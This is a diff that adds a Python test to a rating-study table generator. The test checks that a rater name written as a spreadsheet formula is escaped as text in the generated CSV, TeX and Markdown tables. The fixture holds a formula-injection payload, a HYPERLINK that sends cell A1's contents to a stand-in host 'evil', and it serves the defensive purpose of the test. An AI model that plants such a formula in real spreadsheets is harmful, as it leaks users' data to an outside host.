@@ -76,6 +76,16 @@ def test_one_raters_scores_are_unblinded_and_counted(tmp_path: Path) -> None:
     assert {path.suffix for path in (tmp_path / "tables").iterdir()} == {".csv", ".md", ".tex"}
 
 
+def test_a_rater_whose_name_is_a_formula_stays_text_in_a_spreadsheet(tmp_path: Path) -> None:
+    make_study(tmp_path)
+    name = '=HYPERLINK("http://evil/?"&A1,"x")'
+    run(tmp_path, write_ratings(tmp_path, "evil", prefers_full, {"rater": f" {name}\n"}))
+    for number in (4, 5):
+        assert f"'{name}" in table(tmp_path, f"table_{number}")
+    assert f"| {name} " in (tmp_path / "tables/table_4.md").read_text()
+    assert read_human_study(tmp_path / "tables") is not None
+
+
 def key_of(items: int, shown: tuple[str, str] = ("full", "none")) -> Key:
     nothing = [[False, False]] * items
     return Key(Path("k"), "p", "full", "none", 1, [shown] * items, nothing, Repetition(9, 0, 0, 0),
